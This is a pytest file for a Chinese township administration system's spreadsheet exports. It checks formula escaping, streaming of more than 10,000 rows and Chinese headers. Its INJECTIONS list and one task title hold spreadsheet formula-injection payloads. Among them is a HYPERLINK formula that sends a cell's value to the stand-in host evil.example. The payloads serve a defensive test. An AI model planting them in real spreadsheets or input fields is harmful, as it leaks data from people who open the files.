from io import BytesIO

from openpyxl import load_workbook

from xiangzhen.spreadsheets import response_bytes, write_workbook
from xiangzhen.supervision.services import task_create

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_text_that_looks_like_a_formula_is_written_as_text():
    content = write_workbook({"表": (["姓名", "数量"], [[text, 3] for text in INJECTIONS] + [["-", -5]])})
    sheet = load_workbook(BytesIO(content))["表"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML stores a carriage return as a line feed; everything else comes back exactly as written.
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in INJECTIONS] + ["-"]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    # Numbers stay numbers, even negative ones: only text is neutralised.
    assert sheet["B2"].value == 3 and sheet["B8"].value == -5 and sheet["B8"].data_type == "n"
    assert not sheet["A1"].quotePrefix


def test_an_export_page_writes_a_formula_title_as_text(client, township):
    title = '=HYPERLINK("http://evil.example","督办")'
    task_create(
        actor=township.town_leader.user,
        title=title,
        owner_unit=township.zhenjiang,
        owner=township.township_cadre,
        limit_workdays=5,
    )
    client.force_login(township.town_leader.user)
    sheet = load_workbook(BytesIO(response_bytes(client.get("/supervision/tasks.xlsx"))))["督办事项"]
    cell = sheet["A2"]
    assert cell.value == title and cell.data_type == "s" and cell.quotePrefix


def test_a_missing_optional_sheet_is_known_without_loading_the_workbook(monkeypatch):
    from io import BytesIO

    from openpyxl import Workbook

    from xiangzhen import spreadsheets

    workbook = Workbook()
    workbook.active.title = "单位"
    workbook.active.append(["名称"])
    source = BytesIO()
    workbook.save(source)
    source.seek(0)

    def never(*args, **kwargs):
        raise AssertionError("the workbook was loaded")

    monkeypatch.setattr(spreadsheets, "load_workbook", never)
    rows = spreadsheets.read_sheet(source, sheet="干部", required_columns=["姓名"], optional=True)
    assert list(rows) == []
    assert source.tell() == 0


def _clone_requests(original, count: int) -> None:
    """`count` copies of one request, written in bulk: the export reads rows, it does not care how they came."""
    from copy import copy

    from xiangzhen.services.models import ServiceRequest

    copies = []
    for number in range(count):
        clone = copy(original)
        clone.pk = None
        clone.tracking_code = f"X{number:09d}"
        copies.append(clone)
    ServiceRequest.objects.bulk_create(copies, batch_size=2000)


def test_the_queue_export_streams_every_row_past_the_old_cap_with_chinese_headers(client, township):
    """The export used to stop at 10,000 rows without a word; now every row is written, streamed."""
    from tests.services.factories import intake, make_item

    original = intake(township.window_staff.user, make_item(), township.zhenjiang)
    _clone_requests(original, 10_050)
    client.force_login(township.town_leader.user)
    response = client.get("/services/requests.xlsx")
    assert response.streaming and response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "filename*=UTF-8''%E5%8A%9E%E4%BB%B6.xlsx" in response["Content-Disposition"]
    sheet = load_workbook(BytesIO(response_bytes(response)), read_only=True)["办件"]
    rows = sheet.iter_rows(values_only=True)
    assert next(rows) == (
        "查询码",
        "事项",
        "申请人",
        "联系电话",
        "身份证号",
        "承办单位",
        "状态",
        "办结期限",
        "登记时间",
    )
    codes = {row[0] for row in rows}
    assert len(codes) == 10_051 and original.tracking_code in codes


def test_the_task_export_has_chinese_headers_and_labels(client, township):
    task_create(
        actor=township.town_leader.user,
        title="修缮村道",
        owner_unit=township.zhenjiang,
        owner=township.township_cadre,
        limit_workdays=5,
    )
    client.force_login(township.town_leader.user)
    response = client.get("/supervision/tasks.xlsx")
    assert response.streaming
    rows = list(load_workbook(BytesIO(response_bytes(response)))["督办事项"].iter_rows(values_only=True))
    assert rows[0][:4] == ("督办事项", "来源", "责任单位", "责任人")
    assert rows[1][0] == "修缮村道" and rows[1][2] == "镇江村" and rows[1][3] == township.township_cadre.name
    assert not str(rows[1][6]).isascii()  # a Chinese status label, not its code
